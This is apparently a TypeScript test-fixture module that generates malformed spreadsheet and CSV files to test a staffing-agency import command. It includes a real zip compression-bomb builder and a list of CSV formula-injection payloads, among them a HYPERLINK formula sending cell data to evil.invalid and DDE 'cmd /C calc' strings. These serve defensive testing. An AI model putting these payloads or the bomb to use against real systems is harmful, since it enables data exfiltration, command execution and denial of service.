/**
 * A corpus of malformed input files for the backofficer command, generated from the example
 * workbook into a temporary folder (nothing large is committed): a truncated zip, a zip whose
 * header declares a huge size, a real compression bomb, a sheet claiming a million rows, a CSV
 * with a million empty lines, wrong types in cells, formula-injection text, Latin-1 CSV bytes.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import zlib from 'node:zlib';
import JSZip from 'jszip';

export const EXAMPLE = fileURLToPath(new URL('../../examples/agency-week.xlsx', import.meta.url));
export const EXAMPLE_COST = fileURLToPath(new URL('../../examples/agency-week.cost.json', import.meta.url));

/** Formula-injection texts (OWASP CSV injection) put into text columns. */
export const INJECTIONS = ['=HYPERLINK("http://evil.invalid/?x="&A1,"klik")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '=1+1'];

/** The part of a sheet by its name in xl/workbook.xml ("Uren" → xl/worksheets/sheet6.xml). */
async function sheetPart(zip: JSZip, name: string): Promise<string> {
  const workbook = await zip.file('xl/workbook.xml')!.async('string');
  const rels = await zip.file('xl/_rels/workbook.xml.rels')!.async('string');
  const rid = new RegExp(`<sheet [^>]*name="${name}"[^>]*r:id="([^"]+)"`).exec(workbook)?.[1];
  const target = rid ? new RegExp(`Id="${rid}"[^>]*Target="([^"]+)"`).exec(rels)?.[1] ?? new RegExp(`Target="([^"]+)"[^>]*Id="${rid}"`).exec(rels)?.[1] : undefined;
  if (!target) throw new Error(`corpus: no sheet ${name} in the example`);
  return `xl/${target.replace(/^\/?xl\//, '')}`;
}

/** Shared strings of the example, to find and replace a cell's text. */
async function sharedStrings(zip: JSZip): Promise<string[]> {
  const xml = await zip.file('xl/sharedStrings.xml')!.async('string');
  return [...xml.matchAll(/<si>([\s\S]*?)<\/si>/g)].map((m) => m[1]!.replace(/<[^>]+>/g, ''));
}

const esc = (t: string) => t.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

/** Replaces the value of cell `ref` in a sheet's XML by an inline string or a number (keeping the cell's style). */
function setCell(xml: string, ref: string, value: string | number | { error: string }): string {
  const re = new RegExp(`<c r="${ref}"([^>]*?)(/>|>[\\s\\S]*?</c>)`);
  const m = re.exec(xml);
  if (!m) {
    // An empty cell is not written at all: add it at the end of its row.
    const row = /\d+$/.exec(ref)![0];
    const rowRe = new RegExp(`(<row r="${row}"[^>]*>[\\s\\S]*?)(</row>)`);
    if (!rowRe.test(xml)) throw new Error(`corpus: no row ${row}`);
    return xml.replace(rowRe, `$1<c r="${ref}"/>$2`).replace(new RegExp(`<c r="${ref}"/>`), (c) => setCell(c, ref, value));
  }
  const attrs = m[1]!.replace(/\s+t="[^"]*"/, '');
  const cell =
    typeof value === 'number'
      ? `<c r="${ref}"${attrs}><v>${value}</v></c>`
      : typeof value === 'string'
        ? `<c r="${ref}"${attrs} t="inlineStr"><is><t xml:space="preserve">${esc(value)}</t></is></c>`
        : `<c r="${ref}"${attrs} t="e"><v>${value.error}</v></c>`;
  return xml.replace(re, cell);
}

/** Column letter of a header in row 1 of a sheet (by the header text in shared strings). */
function columnOf(xml: string, strings: string[], header: string): string {
  const row1 = /<row r="1"[\s\S]*?<\/row>/.exec(xml)![0];
  for (const m of row1.matchAll(/<c r="([A-Z]+)1"[^>]*t="s"[^>]*><v>(\d+)<\/v><\/c>/g)) {
    if (strings[Number(m[2])] === header) return m[1]!;
  }
  throw new Error(`corpus: no column "${header}" (headers: ${[...row1.matchAll(/<v>(\d+)<\/v>/g)].map((x) => strings[Number(x[1])]).join(', ')})`);
}

async function repack(zip: JSZip): Promise<Buffer> {
  return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE', compressionOptions: { level: 6 } });
}

/** Raw DEFLATE of `text` ending on a byte boundary without a final block (blocks can be concatenated). */
function deflateBlock(text: string): Buffer {
  return zlib.deflateRawSync(Buffer.from(text, 'utf8'), { finishFlush: zlib.constants.Z_SYNC_FLUSH, level: 9 });
}

/**
 * A zip (one entry replaced) whose entry is `prefix + chunk × times + suffix`, built from
 * concatenated deflate blocks, so a gigabyte costs a megabyte and no time to make.
 */
function zipWithRepeatedEntry(entries: { name: string; data: Buffer }[], bomb: { name: string; prefix: string; chunk: string; times: number; suffix: string; declare?: number }): Buffer {
  const chunkBytes = Buffer.from(bomb.chunk, 'utf8');
  const chunkBlock = deflateBlock(bomb.chunk);
  const parts = [deflateBlock(bomb.prefix), ...Array.from({ length: bomb.times }, () => chunkBlock), zlib.deflateRawSync(Buffer.from(bomb.suffix, 'utf8'))];
  const compressed = Buffer.concat(parts);
  let crc = zlib.crc32(Buffer.from(bomb.prefix, 'utf8'));
  for (let i = 0; i < bomb.times; i++) crc = zlib.crc32(chunkBytes, crc);
  crc = zlib.crc32(Buffer.from(bomb.suffix, 'utf8'), crc);
  const size = Buffer.byteLength(bomb.prefix) + chunkBytes.length * bomb.times + Buffer.byteLength(bomb.suffix);
  const all = [...entries.map((e) => ({ name: e.name, method: 8, data: zlib.deflateRawSync(e.data), crc: zlib.crc32(e.data), size: e.data.length })), { name: bomb.name, method: 8, data: compressed, crc, size: bomb.declare ?? size }];
  return writeZip(all);
}

interface ZipEntry {
  name: string;
  method: number;
  data: Buffer;
  crc: number;
  /** Uncompressed size as declared (may lie). */
  size: number;
}

/** A plain zip writer (no zip64): local headers, data, central directory. */
function writeZip(entries: ZipEntry[]): Buffer {
  const chunks: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name, 'utf8');
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0, 6);
    local.writeUInt16LE(e.method, 8);
    local.writeUInt32LE(0, 10);
    local.writeUInt32LE(e.crc >>> 0, 14);
    local.writeUInt32LE(e.data.length, 18);
    local.writeUInt32LE(e.size >>> 0, 22);
    local.writeUInt16LE(name.length, 26);
    local.writeUInt16LE(0, 28);
    chunks.push(local, name, e.data);
    const c = Buffer.alloc(46);
    c.writeUInt32LE(0x02014b50, 0);
    c.writeUInt16LE(20, 4);
    c.writeUInt16LE(20, 6);
    c.writeUInt16LE(0, 8);
    c.writeUInt16LE(e.method, 10);
    c.writeUInt32LE(0, 12);
    c.writeUInt32LE(e.crc >>> 0, 16);
    c.writeUInt32LE(e.data.length, 20);
    c.writeUInt32LE(e.size >>> 0, 24);
    c.writeUInt16LE(name.length, 28);
    c.writeUInt32LE(offset, 42);
    central.push(c, name);
    offset += 30 + name.length + e.data.length;
  }
  const cd = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...chunks, cd, end]);
}

async function entriesOf(zip: JSZip, except: string): Promise<{ name: string; data: Buffer }[]> {
  const out: { name: string; data: Buffer }[] = [];
  for (const name of Object.keys(zip.files)) {
    if (zip.files[name]!.dir || name === except) continue;
    out.push({ name, data: Buffer.from(await zip.files[name]!.async('uint8array')) });
  }
  // [Content_Types].xml first, as Excel writes it
  return out.sort((a, b) => (a.name === '[Content_Types].xml' ? -1 : b.name === '[Content_Types].xml' ? 1 : 0));
}

export interface CorpusFile {
  /** File name in the corpus folder. */
  file: string;
  /** What is wrong with it. */
  what: string;
}

/** Writes the corpus into `dir` and returns the paths by key. */
export async function buildCorpus(dir: string): Promise<Record<string, string>> {
  const bytes = readFileSync(EXAMPLE);
  const zip = await JSZip.loadAsync(bytes);
  const hoursPart = await sheetPart(zip, 'Uren');
  const workersPart = await sheetPart(zip, 'Uitzendkrachten');
  const placementsPart = await sheetPart(zip, 'Plaatsingen');
  const strings = await sharedStrings(zip);
  const hoursXml = await zip.file(hoursPart)!.async('string');
  const workersXml = await zip.file(workersPart)!.async('string');
  const placementsXml = await zip.file(placementsPart)!.async('string');
  const paths: Record<string, string> = {};
  const put = (key: string, name: string, data: Buffer | string) => {
    const p = join(dir, name);
    writeFileSync(p, data);
    paths[key] = p;
  };

  put('truncated', 'truncated.xlsx', bytes.subarray(0, Math.floor(bytes.length * 0.6)));
  put('empty', 'empty.xlsx', Buffer.alloc(0));
  put('notZip', 'not-a-zip.xlsx', 'Dit is geen werkmap maar tekst.\n');
  put('legacy', 'legacy.xlsx', Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...new Array(504).fill(0)]));

  // A zip whose headers declare the hours sheet as 4 GB (the data is the real, small sheet).
  {
    const entries = await entriesOf(zip, '');
    put('declaredHuge', 'declared-huge.xlsx', writeZip(entries.map((e) => ({ name: e.name, method: 8, data: zlib.deflateRawSync(e.data), crc: zlib.crc32(e.data), size: e.name === hoursPart ? 0xfffffffe : e.data.length }))));
  }

  // A real compression bomb: the hours sheet expands to about 1 GB of empty rows from ~1 MB.
  {
    const head = hoursXml.slice(0, hoursXml.indexOf('<sheetData>') + '<sheetData>'.length);
    const tail = hoursXml.slice(hoursXml.indexOf('</sheetData>'));
    const others = await entriesOf(zip, hoursPart);
    put('bomb', 'bomb.xlsx', zipWithRepeatedEntry(others, { name: hoursPart, prefix: head, chunk: '<row/>'.repeat(174_763), times: 1000, suffix: tail }));
    // The same bomb with headers that lie the other way: 1 MB declared.
    put('lyingBomb', 'lying-bomb.xlsx', zipWithRepeatedEntry(others, { name: hoursPart, prefix: head, chunk: '<row/>'.repeat(174_763), times: 1000, suffix: tail, declare: 1_048_576 }));
  }

  // The hours sheet claims a million rows: dimension A1:XFD1048576 and a lone empty-valued row at the bottom.
  {
    const claimed = hoursXml.replace(/<dimension ref="[^"]*"\/>/, '<dimension ref="A1:XFD1048576"/>').replace('</sheetData>', '<row r="1048576"><c r="A1048576" t="inlineStr"><is><t></t></is></c></row></sheetData>');
    const z = await JSZip.loadAsync(bytes);
    z.file(hoursPart, claimed);
    put('millionRows', 'million-rows.xlsx', await repack(z));
  }

  // Wrong types in cells: text in dates and hours, a boolean time, an error value, a wage of text.
  {
    const z = await JSZip.loadAsync(bytes);
    const date = columnOf(hoursXml, strings, 'Datum');
    const start = columnOf(hoursXml, strings, 'Begintijd');
    const hoursCol = columnOf(hoursXml, strings, 'Uren');
    let h = setCell(hoursXml, `${date}2`, 'morgen');
    h = setCell(h, `${hoursCol}3`, 'abc');
    h = setCell(h, `${start}4`, { error: '#REF!' });
    h = setCell(h, `${hoursCol}5`, 1e308);
    z.file(hoursPart, h);
    const wage = columnOf(placementsXml, strings, 'Uurloon');
    z.file(placementsPart, setCell(placementsXml, `${wage}2`, 'veel'));
    const birth = columnOf(workersXml, strings, 'Geboortedatum');
    z.file(workersPart, setCell(workersXml, `${birth}2`, { error: '#N/A' }));
    put('wrongTypes', 'wrong-types.xlsx', await repack(z));
  }

  // Formula-injection text in text columns (names, job).
  {
    const z = await JSZip.loadAsync(bytes);
    const name = columnOf(workersXml, strings, 'Naam');
    let w = workersXml;
    INJECTIONS.forEach((text, i) => {
      w = setCell(w, `${name}${i + 2}`, text);
    });
    z.file(workersPart, w);
    const job = columnOf(placementsXml, strings, 'Functie');
    let p = placementsXml;
    INJECTIONS.forEach((text, i) => {
      p = setCell(p, `${job}${i + 2}`, text);
    });
    z.file(placementsPart, p);
    put('injection', 'injection.xlsx', await repack(z));
  }

  // CSV: Latin-1 bytes (Excel's "CSV (gescheiden door lijstscheidingsteken)" on Windows), a million empty lines, an unclosed quote.
  const header = 'Personeelsnummer;Plaatsingsnummer;Datum;Begintijd;Eindtijd;Pauze (min);Uren;Status\n';
  const line = 'P-1001;PL-501;2-3-2026;07:00;15:30;30;8;Goedgekeurd\n';
  put('latin1', 'latin1.csv', Buffer.concat([Buffer.from(header, 'latin1'), Buffer.from('P-1001;PL-501;2-3-2026;07:00;15:30;30;8;Goedgekeurd;café\n', 'latin1')]));
  put('emptyLines', 'empty-lines.csv', header + line + '\n'.repeat(1_000_000));
  put('unclosedQuote', 'unclosed-quote.csv', `${header}"P-1001;PL-501;2-3-2026;07:00;15:30;30;8;Goedgekeurd\n`);
  return paths;
}
